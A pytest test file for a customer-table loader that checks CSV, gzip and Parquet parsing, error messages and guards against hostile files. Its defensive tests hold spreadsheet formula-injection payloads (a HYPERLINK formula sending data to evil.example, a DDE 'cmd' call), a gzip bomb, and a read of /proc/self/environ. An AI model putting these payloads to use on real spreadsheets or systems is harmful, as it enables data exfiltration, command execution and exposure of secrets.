"""Loading customer tables: the happy paths, the quietly-handled oddities, and one test per bad input."""

from __future__ import annotations

import gzip
import hashlib
from dataclasses import replace
from datetime import date
from pathlib import Path

import polars as pl
import pytest

from reportgen.config import DataConfig
from reportgen.errors import InputError
from reportgen.io.load import (
    MIN_CUSTOMERS_PER_SEGMENT,
    customers_from_frame,
    detect_format,
    file_sha256,
    load_customers,
    require_customers,
)
from reportgen.model import ID

CC_GENERAL = Path("/work/shared/data/cc_general.csv")
CC_SHA256 = "ad6a9c388ad2ae32407996d2aaaab8aef31e10b64805106f9e6e06a99405b910"
CFG = DataConfig(id_column="CUST_ID", features=("BALANCE", "PURCHASES"))
GOOD = "CUST_ID,BALANCE,PURCHASES\nC1,10.5,0\nC2,20,3.25\nC3,,7\n"


def write(tmp_path: Path, content: str | bytes, name: str = "data.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    return path


def error_of(path: Path, data: DataConfig = CFG) -> str:
    with pytest.raises(InputError) as info:
        load_customers(path, data)
    message = str(info.value)
    assert "\n" not in message, "errors are one line"
    assert path.name in message, "errors name the file"
    return message


# --- happy paths -------------------------------------------------------------------------------------


def test_csv_gives_id_then_features_as_float64(tmp_path: Path) -> None:
    path = write(tmp_path, GOOD)
    table = load_customers(path, CFG)
    assert table.frame.columns == [ID, "BALANCE", "PURCHASES"]
    assert table.frame.dtypes == [pl.String, pl.Float64, pl.Float64]
    assert table.frame[ID].to_list() == ["C1", "C2", "C3"]
    assert table.frame["BALANCE"].to_list() == [10.5, 20.0, None]
    assert table.rows == 3
    assert table.kind == "customers"
    assert table.features == ("BALANCE", "PURCHASES")
    assert table.sha256 == hashlib.sha256(path.read_bytes()).hexdigest() == file_sha256(path)
    assert table.notes == ()


def test_integer_looking_column_that_later_holds_decimals_stays_exact(tmp_path: Path) -> None:
    rows = "".join(f"C{i},{i},1\n" for i in range(2000)) + "C9999,2.5,1\n"
    table = load_customers(write(tmp_path, "CUST_ID,BALANCE,PURCHASES\n" + rows), CFG)
    assert table.frame["BALANCE"][-1] == 2.5
    assert table.rows == 2001


def test_ids_keep_leading_zeros(tmp_path: Path) -> None:
    table = load_customers(write(tmp_path, "CUST_ID,BALANCE,PURCHASES\n007,1,2\n0008,3,4\n"), CFG)
    assert table.frame[ID].to_list() == ["007", "0008"]


def test_utf8_bom_is_ignored(tmp_path: Path) -> None:
    table = load_customers(write(tmp_path, b"\xef\xbb\xbf" + GOOD.encode()), CFG)
    assert table.frame[ID].to_list() == ["C1", "C2", "C3"]


def test_crlf_line_endings(tmp_path: Path) -> None:
    table = load_customers(write(tmp_path, GOOD.replace("\n", "\r\n")), CFG)
    assert table.frame["PURCHASES"].to_list() == [0.0, 3.25, 7.0]
    assert table.frame[ID].to_list() == ["C1", "C2", "C3"]


@pytest.mark.parametrize("token", ["NA", "N/A", "NaN", "null", "", "nan"])
def test_missing_value_tokens_become_null(tmp_path: Path, token: str) -> None:
    table = load_customers(write(tmp_path, f"CUST_ID,BALANCE,PURCHASES\nC1,{token},1\nC2,2,2\n"), CFG)
    assert table.frame["BALANCE"].to_list() == [None, 2.0]


def test_extra_columns_are_dropped_and_noted(tmp_path: Path) -> None:
    text = "NAME,CUST_ID,PURCHASES,SEGMENT,BALANCE\nAnn,C1,1,x,2\nBob,C2,3,y,4\n"
    table = load_customers(write(tmp_path, text), CFG)
    assert table.frame.columns == [ID, "BALANCE", "PURCHASES"]
    assert table.frame.row(0) == ("C1", 2.0, 1.0)
    assert table.notes == ("Ignored 2 columns the configuration does not use: NAME, SEGMENT.",)


def test_latin1_ids_are_decoded_and_noted(tmp_path: Path) -> None:
    path = write(tmp_path, "CUST_ID,BALANCE,PURCHASES\nJosé,1,2\nZoë,3,4\n".encode("latin-1"))
    table = load_customers(path, CFG)
    assert table.frame[ID].to_list() == ["José", "Zoë"]
    assert any("Latin-1" in note for note in table.notes)


def test_utf8_ids_are_not_mangled(tmp_path: Path) -> None:
    table = load_customers(write(tmp_path, "CUST_ID,BALANCE,PURCHASES\nJosé,1,2\n"), CFG)
    assert table.frame[ID].to_list() == ["José"]
    assert table.notes == ()


def test_whitespace_around_headers_and_cells(tmp_path: Path) -> None:
    text = " CUST_ID , BALANCE ,PURCHASES \n C1 , 1.5 , NA \nC2,2, 3\n"
    table = load_customers(write(tmp_path, text), CFG)
    assert table.frame.rows() == [("C1", 1.5, None), ("C2", 2.0, 3.0)]


def test_blank_lines_are_skipped_and_noted(tmp_path: Path) -> None:
    table = load_customers(write(tmp_path, "CUST_ID,BALANCE,PURCHASES\nC1,1,2\n\nC2,3,4\n\n"), CFG)
    assert table.frame[ID].to_list() == ["C1", "C2"]
    assert table.rows == 2
    assert table.notes == ("skipped 2 blank lines (lines 3, 5)",)


def test_notes_count_in_the_reports_locale(tmp_path: Path) -> None:
    text = "CUST_ID,BALANCE,PURCHASES\nC1,1,2\n" + ",,\n" * 1200 + "C2,3,4\n"
    table = load_customers(write(tmp_path, text), CFG, locale="de_DE")
    assert table.notes[0].startswith("skipped 1.200 blank lines (lines 3, 4, 5, 6, 7, ...)")


def test_gzip_round_trip(tmp_path: Path) -> None:
    path = write(tmp_path, gzip.compress(GOOD.encode()), "data.csv.gz")
    assert detect_format(path) == "csv.gz"
    table = load_customers(path, CFG)
    assert table.frame.equals(load_customers(write(tmp_path, GOOD), CFG).frame)
    assert table.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()


def test_parquet_round_trip(tmp_path: Path) -> None:
    source = pl.DataFrame(
        {"X": ["a", "b"], "CUST_ID": ["C1", "C2"], "PURCHASES": [1, 2], "BALANCE": [0.5, None]}
    )
    path = tmp_path / "data.parquet"
    source.write_parquet(path)
    assert detect_format(path) == "parquet"
    table = load_customers(path, CFG)
    assert table.frame.rows() == [("C1", 0.5, 1.0), ("C2", None, 2.0)]
    assert table.frame.dtypes == [pl.String, pl.Float64, pl.Float64]
    assert table.rows == 2
    assert table.notes == ("Ignored 1 column the configuration does not use: X.",)


def test_parquet_integer_ids_become_text(tmp_path: Path) -> None:
    path = tmp_path / "data.parquet"
    pl.DataFrame({"CUST_ID": [7, 8], "BALANCE": [1.0, 2.0], "PURCHASES": [3.0, 4.0]}).write_parquet(path)
    assert load_customers(path, CFG).frame[ID].to_list() == ["7", "8"]


def test_format_is_detected_by_content_not_name(tmp_path: Path) -> None:
    parquet = tmp_path / "export.csv"
    pl.DataFrame({"CUST_ID": ["C1"], "BALANCE": [1.0], "PURCHASES": [2.0]}).write_parquet(parquet)
    assert detect_format(parquet) == "parquet"
    assert load_customers(parquet, CFG).frame.height == 1
    gz = write(tmp_path, gzip.compress(GOOD.encode()), "export.csv")
    assert detect_format(gz) == "csv.gz"
    plain = write(tmp_path, GOOD, "export.parquet")
    assert detect_format(plain) == "csv"
    assert any("content is csv" in note for note in load_customers(plain, CFG).notes)


@pytest.mark.skipif(not CC_GENERAL.exists(), reason="reference data not available")
def test_reference_table_cc_general() -> None:
    table = load_customers(CC_GENERAL, DataConfig())
    frame = table.frame
    assert table.rows == frame.height == 8950
    assert frame[ID].n_unique() == 8950
    assert frame[ID][0] == "C10001"
    assert frame.columns == [ID, *DataConfig().features]
    assert all(dtype == pl.Float64 for dtype in frame.dtypes[1:])
    nulls = {c: n for c, n in zip(frame.columns, frame.null_count().row(0), strict=True) if n}
    assert nulls == {"MINIMUM_PAYMENTS": 313, "CREDIT_LIMIT": 1}
    assert table.sha256 == CC_SHA256
    assert table.notes == ()


@pytest.mark.slow
def test_a_million_rows_load_with_the_explicit_schema(tmp_path: Path) -> None:
    # speed is measured by `make bench`, not here; this checks the fast path at scale
    n = 1_000_000
    features = tuple(f"F{i}" for i in range(17))
    frame = pl.DataFrame({"CUST_ID": pl.int_range(n, eager=True).cast(pl.String)}).with_columns(
        (pl.int_range(n) % (97 + i) * 1.25).alias(f) for i, f in enumerate(features)
    )
    path = tmp_path / "big.csv"
    frame.write_csv(path)
    table = load_customers(path, DataConfig(features=features))
    assert table.rows == n and table.frame.height == n
    assert table.frame.schema["F3"] == pl.Float64
    assert table.frame["F16"][200] == (200 % (97 + 16)) * 1.25


# --- bad input: one test each ------------------------------------------------------------------------


def test_missing_file(tmp_path: Path) -> None:
    message = error_of(tmp_path / "nothere.csv")
    assert "not found" in message


def test_empty_file(tmp_path: Path) -> None:
    assert "empty" in error_of(write(tmp_path, b""))


def test_whitespace_only_file(tmp_path: Path) -> None:
    assert "empty" in error_of(write(tmp_path, "\n \r\n"))


def test_directory(tmp_path: Path) -> None:
    folder = tmp_path / "data.csv"
    folder.mkdir()
    assert "directory" in error_of(folder)


def test_header_only(tmp_path: Path) -> None:
    assert "no data rows" in error_of(write(tmp_path, "CUST_ID,BALANCE,PURCHASES\n"))


def test_binary_garbage(tmp_path: Path) -> None:
    message = error_of(write(tmp_path, bytes(range(256)) * 8))
    assert "not CSV or Parquet" in message


def test_excel_workbook_saved_as_csv(tmp_path: Path) -> None:
    message = error_of(write(tmp_path, b"PK\x03\x04" + bytes(200)))
    assert "Excel" in message and "CSV" in message


@pytest.mark.parametrize("sep", [";", "\t", "|"])
def test_separator_is_detected(tmp_path: Path, sep: str) -> None:
    table = load_customers(write(tmp_path, GOOD.replace(",", sep)), CFG)
    assert table.frame.equals(load_customers(write(tmp_path, GOOD, "comma.csv"), CFG).frame)


@pytest.mark.parametrize(("sep", "label"), [(";", "';'"), ("\t", "tab")])
def test_fixed_separator_that_does_not_fit(tmp_path: Path, sep: str, label: str) -> None:
    message = error_of(write(tmp_path, GOOD.replace(",", sep)), replace(CFG, separator=","))
    assert "line 1 has one field on ',' (data.separator)" in message
    assert f"looks {label}-separated" in message and 'data.separator = "auto"' in message


def test_fixed_separator_is_used(tmp_path: Path) -> None:
    # a semicolon file whose text holds commas: "auto" would still pick ';' here, a fixed one must too
    text = "CUST_ID;BALANCE;PURCHASES\nC1;1;2\nC2;3;4\n"
    assert load_customers(write(tmp_path, text), replace(CFG, separator=";")).frame.height == 2


def test_no_id_column_numbers_customers_by_row(tmp_path: Path) -> None:
    text = "BALANCE,PURCHASES\n1,2\n3,4\n5,6\n"
    table = load_customers(write(tmp_path, text), replace(CFG, id_column=""))
    assert table.frame[ID].to_list() == ["1", "2", "3"] and table.numbered
    assert any("numbered by their data row" in n for n in table.notes)


def test_categorical_columns_are_text_and_gaps_are_a_value(tmp_path: Path) -> None:
    text = "CUST_ID,BALANCE,PURCHASES,Channel,Genre\nC1,1,2,1,Male\nC2,3,4,2,\nC3,5,6,1,Female\n"
    table = load_customers(write(tmp_path, text), replace(CFG, categorical=("Channel", "Genre")))
    assert table.frame["Channel"].to_list() == ["1", "2", "1"]
    assert table.frame["Genre"].to_list() == ["Male", "(missing)", "Female"]
    assert table.categorical == ("Channel", "Genre") and table.encoded == ()
    assert table.features == ("BALANCE", "PURCHASES")


def test_categorical_feature_is_encoded_not_a_number(tmp_path: Path) -> None:
    text = "CUST_ID,BALANCE,Genre\nC1,1,Male\nC2,3,Female\n"
    data = DataConfig(features=("BALANCE", "Genre"), categorical=("Genre",))
    table = load_customers(write(tmp_path, text), data)
    assert table.features == ("BALANCE",) and table.encoded == ("Genre",)


def test_text_in_a_feature_suggests_categorical(tmp_path: Path) -> None:
    message = error_of(
        write(tmp_path, "CUST_ID,BALANCE,Genre\nC1,1,Male\n"), replace(CFG, features=("BALANCE", "Genre"))
    )
    assert "column Genre, line 2: 'Male' is not a number" in message and "data.categorical" in message


def test_dates_become_days_before_the_period_end(tmp_path: Path) -> None:
    text = "CUST_ID,BALANCE,Since\nC1,1,04-09-2012\nC2,2,\nC3,3,31-12-2012\n"
    data = DataConfig(features=("BALANCE", "Since"), dates={"Since": "%d-%m-%Y"})
    table = load_customers(write(tmp_path, text), data, date(2012, 12, 31))
    assert table.frame["Since"].to_list() == [118.0, None, 0.0]


def test_undeclared_date_suggests_dates(tmp_path: Path) -> None:
    text = "CUST_ID,BALANCE,Since\nC1,1,04-09-2012\n"
    message = error_of(write(tmp_path, text), replace(CFG, features=("BALANCE", "Since")))
    assert "'04-09-2012' is not a number" in message and "data.dates" in message


def test_date_in_another_format_names_the_key(tmp_path: Path) -> None:
    text = "CUST_ID,BALANCE,Since\nC1,1,04-09-2012\nC2,1,2012-09-04\n"
    data = DataConfig(features=("BALANCE", "Since"), dates={"Since": "%d-%m-%Y"})
    with pytest.raises(InputError) as info:
        load_customers(write(tmp_path, text), data, date(2012, 12, 31))
    message = str(info.value)
    assert (
        "column Since, line 3: '2012-09-04' does not match the format '%d-%m-%Y' (data.dates.Since)"
        in message
    )


def test_period_far_from_the_dates_is_noted(tmp_path: Path) -> None:
    text = "CUST_ID,BALANCE,Since\nC1,1,04-09-2012\nC2,2,01-01-2013\n"
    data = DataConfig(features=("BALANCE", "Since"), dates={"Since": "%d-%m-%Y"})
    table = load_customers(write(tmp_path, text), data, date(2026, 11, 30))
    assert any(
        "latest date is 2013-01-01, more than a year before the period (2026-11)" in n for n in table.notes
    )


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (
            DataConfig(id_column="ID", features=("BALANCE",)),
            "id column ID (data.id_column) is not in the file",
        ),
        (
            DataConfig(features=("BALANCE",), categorical=("Channel",)),
            "data.categorical names column Channel",
        ),
        (DataConfig(features=("BALANCE",), value=("Spend",)), "data.value names column Spend"),
        (DataConfig(features=("BALANCE",), dates={"Since": "%Y"}), "data.dates names Since"),
    ],
)
def test_own_table_keys_that_do_not_fit_the_file(tmp_path: Path, data: DataConfig, expected: str) -> None:
    assert expected in error_of(write(tmp_path, GOOD), data)


def test_missing_default_columns_say_which_keys_to_set(tmp_path: Path) -> None:
    message = error_of(write(tmp_path, "Fresh,Milk\n1,2\n"), DataConfig())
    assert "set data.id_column" in message and "data.features" in message and "credit-card" in message


def test_dataframe_loads_like_the_file(tmp_path: Path) -> None:
    text = "CUST_ID,BALANCE,PURCHASES,Genre\nC1,1.5,2,Male\nC2,,4,Female\n"
    data = replace(CFG, categorical=("Genre",))
    from_file = load_customers(write(tmp_path, text), data)
    frame = pl.read_csv(text.encode())
    from_frame = customers_from_frame(frame, data, "Polars DataFrame")
    assert from_frame.frame.equals(from_file.frame)
    assert from_frame.name == "Polars DataFrame" and from_file.name == "data.csv"
    # the same data has the same fingerprint; only the file has a file hash
    assert from_frame.fingerprint == from_file.fingerprint
    assert from_frame.sha256 is None and from_file.sha256 is not None


def test_fingerprint_follows_the_loaded_values_not_the_spelling(tmp_path: Path) -> None:
    base = load_customers(write(tmp_path, GOOD), CFG)
    # padding, CRLF and "20" for "20.0" load to the same table, so the same fingerprint
    respelled = "CUST_ID,BALANCE,PURCHASES\r\nC1, 10.50 ,0\r\nC2,20.0,3.25\r\nC3,NA,7.0\r\n"
    assert load_customers(write(tmp_path, respelled, "b.csv"), CFG).fingerprint == base.fingerprint
    changed = load_customers(write(tmp_path, GOOD.replace("3.25", "3.5"), "c.csv"), CFG)
    assert changed.fingerprint != base.fingerprint
    assert len(base.fingerprint) == 64


def test_missing_required_columns(tmp_path: Path) -> None:
    message = error_of(write(tmp_path, "ID,BALANCE,OTHER\nC1,1,2\n"))
    assert "missing required columns CUST_ID, PURCHASES" in message
    assert "found: ID, BALANCE, OTHER" in message


def test_missing_id_column(tmp_path: Path) -> None:
    message = error_of(write(tmp_path, "ID,BALANCE,PURCHASES\nC1,1,2\n"))
    assert "id column CUST_ID" in message and "found: ID, BALANCE, PURCHASES" in message


def test_features_name_an_absent_column(tmp_path: Path) -> None:
    message = error_of(write(tmp_path, "CUST_ID,BALANCE\nC1,1\n"))
    assert "data.features names column PURCHASES that is not in the file" in message
    assert "found: CUST_ID, BALANCE" in message


def test_text_in_numeric_column(tmp_path: Path) -> None:
    message = error_of(write(tmp_path, "CUST_ID,BALANCE,PURCHASES\nC1,1,2\nC2,3,2\nC3,4,abc\n"))
    assert "column PURCHASES, line 4: 'abc' is not a number" in message


def test_text_in_numeric_column_after_a_multiline_quoted_field(tmp_path: Path) -> None:
    text = 'CUST_ID,BALANCE,PURCHASES,NOTE\nC1,1,2,"two\nlines"\nC2,oops,2,x\n'
    assert "column BALANCE, line 4: 'oops'" in error_of(write(tmp_path, text))


def test_decimal_comma_gets_a_hint(tmp_path: Path) -> None:
    message = error_of(write(tmp_path, 'CUST_ID,BALANCE,PURCHASES\nC1,"1,5",2\n'))
    assert "column BALANCE, line 2: '1,5' is not a number" in message and "decimal mark" in message


@pytest.mark.parametrize(
    ("cell", "hint"),
    [
        ("1,965.72", "export numbers without thousands separators (',')"),
        ("1,234,567", "export numbers without thousands separators (',')"),
        ("1.965,72", "use '.' as the decimal mark (and no thousands separators)"),
        ("1,965", "use '.' as the decimal mark (and no thousands separators)"),  # 1.965 or 1965: ambiguous
        ("12%", "export percentages as plain numbers, without '%' (12 or 0.12)"),
        ("7.5 %", "export percentages as plain numbers, without '%' (12 or 0.12)"),
        ("yes", "if BALANCE holds categories, list it in data.categorical"),
    ],
)
def test_a_spreadsheet_formatted_number_gets_the_fix_that_reads_it(
    tmp_path: Path, cell: str, hint: str
) -> None:
    message = error_of(write(tmp_path, f'CUST_ID,BALANCE,PURCHASES\nC1,1,2\nC2,"{cell}",2\n'))
    assert message.startswith(f"{tmp_path / 'data.csv'}: column BALANCE, line 3: '{cell}' is not a number; ")
    assert hint in message


@pytest.mark.parametrize("value", ["inf", "-Infinity", "1e999"])
def test_infinite_values(tmp_path: Path, value: str) -> None:
    message = error_of(write(tmp_path, f"CUST_ID,BALANCE,PURCHASES\nC1,1,2\nC2,{value},2\n"))
    assert "column BALANCE, line 3: infinite value" in message


def test_all_empty_column(tmp_path: Path) -> None:
    message = error_of(write(tmp_path, "CUST_ID,BALANCE,PURCHASES\nC1,1,\nC2,2,NA\n"))
    assert "column PURCHASES is empty on every row; expected numbers: remove it from data.features" in message


def test_a_repeated_header_column_that_is_read_names_both_places(tmp_path: Path) -> None:
    message = error_of(write(tmp_path, "CUST_ID,BALANCE,PURCHASES,BALANCE\nC1,1,2,3\n"))
    assert message.endswith(
        "column BALANCE appears more than once in the header (columns 2, 4); "
        "expected each column once: rename or remove the repeated one in the export"
    )


def test_a_repeated_header_column_that_is_not_read_is_ignored(tmp_path: Path) -> None:
    table = load_customers(
        write(tmp_path, "CUST_ID,BALANCE,PURCHASES,NOTE,NOTE\nC1,1,2,a,b\nC2,3,4,c,d\n"), CFG
    )
    assert table.frame.height == 2
    assert table.notes == ("Ignored 1 column the configuration does not use: NOTE.",)


def test_many_ignored_columns_are_cut_short_once(tmp_path: Path) -> None:
    extra = [f"X{i}" for i in range(12)]
    header = ",".join(["CUST_ID", "BALANCE", "PURCHASES", *extra])
    table = load_customers(write(tmp_path, header + "\nC1,1,2" + ",0" * 12 + "\n"), CFG)
    assert table.notes == (
        "Ignored 12 columns the configuration does not use: X0, X1, X2, X3, X4, X5, X6, X7, X8, X9, ...",
    )


def test_duplicate_customer_ids(tmp_path: Path) -> None:
    text = "CUST_ID,BALANCE,PURCHASES\nC1,1,2\nC2,1,2\nC3,1,2\nC2,5,6\n"
    message = error_of(write(tmp_path, text))
    assert "customer id 'C2' appears more than once, on line 3 and line 5" in message


def test_duplicate_ids_differing_only_in_spaces(tmp_path: Path) -> None:
    message = error_of(write(tmp_path, "CUST_ID,BALANCE,PURCHASES\nC1,1,2\n C1 ,1,2\n"))
    assert "'C1'" in message and "line 2 and line 3" in message


def test_empty_customer_id(tmp_path: Path) -> None:
    message = error_of(write(tmp_path, "CUST_ID,BALANCE,PURCHASES\nC1,1,2\n,3,4\n"))
    assert "empty customer id in column CUST_ID, line 3" in message


def test_row_with_too_many_fields(tmp_path: Path) -> None:
    message = error_of(write(tmp_path, "CUST_ID,BALANCE,PURCHASES\nC1,1,2\nC2,3,4,5\n"))
    assert "line 3 has 4 fields" in message and "header (line 1) has 3" in message


def test_truncated_gzip(tmp_path: Path) -> None:
    data = gzip.compress(("CUST_ID,BALANCE,PURCHASES\n" + "C1,1,2\n" * 1000).encode())
    message = error_of(write(tmp_path, data[: len(data) // 2], "data.csv.gz"))
    assert "truncated gzip" in message


def test_corrupt_parquet(tmp_path: Path) -> None:
    path = tmp_path / "data.parquet"
    pl.DataFrame({"CUST_ID": ["C1"], "BALANCE": [1.0], "PURCHASES": [2.0]}).write_parquet(path)
    path.write_bytes(path.read_bytes()[:40])
    assert "corrupt Parquet" in error_of(path)


def test_parquet_text_in_numeric_column_names_the_row(tmp_path: Path) -> None:
    path = tmp_path / "data.parquet"
    pl.DataFrame({"CUST_ID": ["C1", "C2"], "BALANCE": ["1", "lots"], "PURCHASES": [1.0, 2.0]}).write_parquet(
        path
    )
    assert "column BALANCE, row 2: 'lots' is not a number" in error_of(path)


def test_parquet_duplicate_ids_name_the_rows(tmp_path: Path) -> None:
    path = tmp_path / "data.parquet"
    pl.DataFrame({"CUST_ID": ["C1", "C1"], "BALANCE": [1.0, 2.0], "PURCHASES": [1.0, 2.0]}).write_parquet(
        path
    )
    assert "row 1 and row 2" in error_of(path)


# --- enough customers for the k range ----------------------------------------------------------------


def test_require_customers(tmp_path: Path) -> None:
    rows = "".join(f"C{i},1,2\n" for i in range(5))
    table = load_customers(write(tmp_path, "CUST_ID,BALANCE,PURCHASES\n" + rows), CFG)
    require_customers(table, 4, "clustering.k_max")  # 5 customers suffice for 4 segments
    with pytest.raises(InputError) as info:
        require_customers(table, 10, "clustering.k_max")
    assert str(info.value) == (
        f"{table.path}: 5 customers, but clustering.k_max=10 needs at least 11; "
        "lower clustering.k_max or add data"
    )
    # a k the user fixes must give groups, not individuals: 10 customers per segment on average (F34)
    with pytest.raises(InputError) as fixed:
        require_customers(table, 2, "--k / clustering.k", MIN_CUSTOMERS_PER_SEGMENT)
    assert str(fixed.value) == (
        f"{table.path}: 5 customers, but --k / clustering.k=2 needs at least 20 (10 per segment on average); "
        "lower --k / clustering.k or add data"
    )


# --- hostile files and limits -------------------------------------------------------------------------


def test_a_gzip_bomb_stops_at_the_documented_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from reportgen.io import guards

    monkeypatch.setattr(guards, "MAX_UNCOMPRESSED_BYTES", 8 << 20)
    # 64 MiB of one repeated line packs into some 60 KB; the limit (here 8 MiB) stops the expansion early
    bomb = gzip.compress(b"CUST_ID,BALANCE,PURCHASES\n" + b"C1,1,2\n" * (64 << 20 >> 3), compresslevel=9)
    assert len(bomb) < 1 << 20
    message = error_of(write(tmp_path, bomb, "bomb.csv.gz"))
    assert "expands to more than 8 MiB of text (a gzip bomb" in message


def test_the_gzip_limit_is_stated_in_gib_and_several_members_still_read(tmp_path: Path) -> None:
    from reportgen.io import guards

    assert guards.MAX_UNCOMPRESSED_BYTES == 4 << 30
    two = gzip.compress(b"CUST_ID,BALANCE,PURCHASES\nC1,10.5,0\n") + gzip.compress(b"C2,20,3.25\nC3,,7\n")
    table = load_customers(write(tmp_path, two, "two.csv.gz"), CFG)
    assert table.frame[ID].to_list() == ["C1", "C2", "C3"]


@pytest.mark.parametrize("special", ["/dev/zero", "/dev/urandom", "fifo"])
def test_what_is_not_a_regular_file_is_refused_at_once(tmp_path: Path, special: str) -> None:
    import os

    path = Path(special)
    if special == "fifo":
        path = tmp_path / "fifo.csv"
        os.mkfifo(path)
    with pytest.raises(InputError, match=r"is not a regular file \(a device, FIFO or socket\)") as info:
        load_customers(path, CFG)
    assert str(info.value).startswith(str(path))


def test_a_file_that_stat_calls_empty_is_read_not_trusted() -> None:
    # /proc files report a size of 0; this one holds NUL-separated text
    with pytest.raises(InputError) as info:
        load_customers(Path("/proc/self/environ"), CFG)
    assert "empty" not in str(info.value) and "binary data" in str(info.value)


def test_a_header_with_too_many_columns_is_refused_before_reading(tmp_path: Path) -> None:
    from reportgen.io import guards

    header = "CUST_ID,BALANCE,PURCHASES," + ",".join(f"x{i}" for i in range(guards.MAX_COLUMNS))
    message = error_of(write(tmp_path, header + "\nC1,1,2\n"))
    assert "line 1 has 10,003 columns; at most 10,000 are read" in message


@pytest.mark.parametrize("value", ["1e308", "-1.5e300", "2e15"])
def test_huge_values_are_an_error_naming_column_and_line(tmp_path: Path, value: str) -> None:
    message = error_of(write(tmp_path, f"CUST_ID,BALANCE,PURCHASES\nC1,1,2\nC2,3,{value}\n"))
    assert "column PURCHASES, line 3" in message and "beyond +/-1e+15" in message


def test_cr_only_line_ends_are_read_as_lines(tmp_path: Path) -> None:
    table = load_customers(write(tmp_path, GOOD.replace("\n", "\r")), CFG)
    assert table.frame[ID].to_list() == ["C1", "C2", "C3"]
    assert any("CR only" in note for note in table.notes)


def test_a_nul_in_an_id_past_the_first_8_kb_is_an_error(tmp_path: Path) -> None:
    rows = "".join(f"C{i},1,2\n" for i in range(2000))  # about 18 KB
    content = "CUST_ID,BALANCE,PURCHASES\n" + rows + "C\x00evil,1,2\n"
    message = error_of(write(tmp_path, content))
    assert "line 2002" in message and "control character" in message and "CUST_ID" in message


def test_an_overlong_id_is_refused(tmp_path: Path) -> None:
    message = error_of(write(tmp_path, f"CUST_ID,BALANCE,PURCHASES\nC1,1,2\n{'x' * 300},1,2\n"))
    assert "line 3, is 300 characters; at most 200" in message


@pytest.mark.parametrize(
    "bad",
    ['=HYPERLINK("http://evil.example/?x="&A1;"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3+cmd"],
)
def test_ids_a_spreadsheet_would_run_are_refused_unless_allowed(tmp_path: Path, bad: str) -> None:
    from reportgen.io.guards import refuse_formula_ids

    quoted = '"' + bad.replace('"', '""') + '"'
    table = load_customers(write(tmp_path, f"CUST_ID,BALANCE,PURCHASES\nC1,1,2\n{quoted},3,4\n"), CFG)
    with pytest.raises(InputError) as info:
        refuse_formula_ids(table, allowed=False)
    message = str(info.value)
    assert "data.csv" in message and "(data row 2)" in message and "report.allow_formula_ids" in message
    refuse_formula_ids(table, allowed=True)  # the user's explicit choice: ids written as they are


def test_numbers_with_a_sign_are_not_formulas(tmp_path: Path) -> None:
    from reportgen.io.guards import refuse_formula_ids

    table = load_customers(write(tmp_path, "CUST_ID,BALANCE,PURCHASES\n-17,1,2\n+4420,3,4\n"), CFG)
    refuse_formula_ids(table, allowed=False)


def test_a_transaction_log_whose_sums_overflow_is_an_error_naming_the_customer(tmp_path: Path) -> None:
    from datetime import date

    from reportgen.analysis.purchases import purchase_table
    from reportgen.config import TransactionConfig
    from reportgen.io.guards import refuse_unusable_values
    from reportgen.io.transactions import read_purchase_log

    rows = "".join(
        f"{i},P{i % 3},2,2026-11-{i % 28 + 1:02d} 10:00,{i % 7 + 1}.5,C{i % 20}\n" for i in range(200)
    )
    header = "InvoiceNo,StockCode,Quantity,InvoiceDate,UnitPrice,CustomerID\n"
    log = write(tmp_path, header + rows + "999,P1,2,2026-11-03 10:00,1e308,C7\n", "log.csv")
    table = purchase_table(read_purchase_log(log, TransactionConfig(), date(2026, 11, 30)))
    with pytest.raises(InputError, match=r"log\.csv: monetary of customer 'C7' is inf, beyond \+/-1e\+15"):
        refuse_unusable_values(table)
    fine = write(tmp_path, header + rows, "fine.csv")
    refuse_unusable_values(purchase_table(read_purchase_log(fine, TransactionConfig(), date(2026, 11, 30))))


def test_labels_must_name_columns_of_the_file(tmp_path: Path) -> None:
    path = write(tmp_path, GOOD)
    message = error_of(path, replace(CFG, labels={"BALANC": "Balance"}, source=tmp_path / "reportgen.toml"))
    assert "reportgen.toml" in message and "data.labels.BALANC" in message
    assert "found: CUST_ID, BALANCE, PURCHASES" in message
    # a column of the file, a category key "Col=value" of one, or a computed column may be labelled
    ok = replace(CFG, labels={"BALANCE": "Owed", "PURCHASES=0": "None", "AVG_PURCHASE_VALUE": "Ticket"})
    assert load_customers(path, ok).frame.height == 3
